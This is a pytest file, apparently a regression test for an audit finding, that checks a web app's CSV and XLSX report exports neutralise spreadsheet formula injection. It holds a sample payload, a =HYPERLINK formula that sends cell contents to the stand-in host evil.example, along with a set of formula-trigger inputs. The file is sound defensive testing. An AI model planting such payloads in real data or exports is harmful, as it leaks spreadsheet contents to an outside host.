"""Finding 6: text a user typed reaches CSV and XLSX downloads as data, never as a formula."""
import io

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'


def test_report_downloads_neutralise_formulas(tenant_a, client, api_token, make_case, login):
    """Does a service area named like a formula reach the CSV with a leading apostrophe, and the XLSX as text
    (not a formula cell)?"""
    from openpyxl import load_workbook

    admin = api_token(tenant_a, "admin")
    r = client.post("/api/v1/service-areas", json={"code": "evil", "name": EVIL}, headers=admin)
    assert r.status_code == 201, r.json
    case = make_case(tenant_a)
    r = client.post(f"/api/v1/cases/{case['id']}/services", json={"on": "2026-02-03", "minutes": 60,
                                                                  "service_area": "evil"},
                    headers=api_token(tenant_a, "case_manager"))
    assert r.status_code == 201, r.json
    login(client, tenant_a, "admin")
    query = "date_from=2026-01-01&date_to=2026-12-31"
    csv = client.get(f"/{tenant_a.slug}/reports.csv?{query}").get_data(as_text=True)
    assert f"'{EVIL}" in csv.replace('""', '"')
    assert ";=HYPERLINK" not in csv and ';"=HYPERLINK' not in csv
    book = load_workbook(io.BytesIO(client.get(f"/{tenant_a.slug}/reports.xlsx?{query}").data))
    cells = [c for row in book.active.iter_rows() for c in row if c.value and "HYPERLINK" in str(c.value)]
    assert cells and all(c.data_type == "s" for c in cells)


def test_neutral_leaves_numbers_and_plain_text_alone():
    from core.spreadsheets import neutral

    assert [neutral(v) for v in (-5, 3.5, "Kinderbetreuung", "", None)] == [-5, 3.5, "Kinderbetreuung", "", None]
    assert [neutral(v) for v in ("=1+1", "+49 30", "-x", "@SUM(A1)", "\tx", "\rx")] == [
        "'=1+1", "'+49 30", "'-x", "'@SUM(A1)", "'\tx", "'\rx"]
